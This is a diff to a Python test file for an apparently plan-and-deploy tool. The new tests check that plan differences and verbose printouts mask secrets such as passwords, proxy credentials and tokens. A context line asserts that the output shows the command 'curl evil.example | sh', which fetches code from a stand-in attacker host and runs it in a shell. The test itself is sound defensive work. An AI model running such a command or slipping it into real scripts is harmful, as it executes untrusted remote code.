@@ -339,3 +339,22 @@ def test_v_shows_what_runs_and_not_only_what_it_says_of_itself() -> None:
     assert "asks: sh -c id" in lines
     assert "x" * 700 not in lines
     assert "curl evil.example | sh" in plan_text(told, Style(width=10_000, verbose=2))
+
+
+def test_what_differs_is_told_without_the_files_secrets(tmp_path: Path) -> None:
+    old = Step("a", "t", "w", (PutFile("/etc/x", '{"auth": "hunter2"}\n'), Run(("x", "--password=hunter2"))))
+    new = Step("a", "t", "w", (PutFile("/etc/x", '{"auth": "other3"}\n'), Run(("x", "--password=other3"))))
+    with pytest.raises(Drift) as caught:
+        same_plan(Plan("h", Spec(), "", (), steps=(old,)), Plan("h", Spec(), "", (), steps=(new,)))
+    assert "hunter2" not in caught.value.evidence
+    assert "other3" not in caught.value.evidence
+    assert "a: actions 1: text" in caught.value.evidence
+    assert "from line 1 on" in caught.value.evidence
+
+
+def test_v_masks_what_a_command_carries() -> None:
+    env = (("https_proxy", "http://ann:hunter2@proxy:3128"), ("REGISTRY_TOKEN", "hunter2"))
+    told = Plan("h", Spec(), "", (), steps=(Step("a", "t", "w", (Run(("x", "--password", "hunter2"), env=env),)),))
+    text = plan_text(told, Style(width=10_000, verbose=2))
+    assert "hunter2" not in text
+    assert "x --password" in text
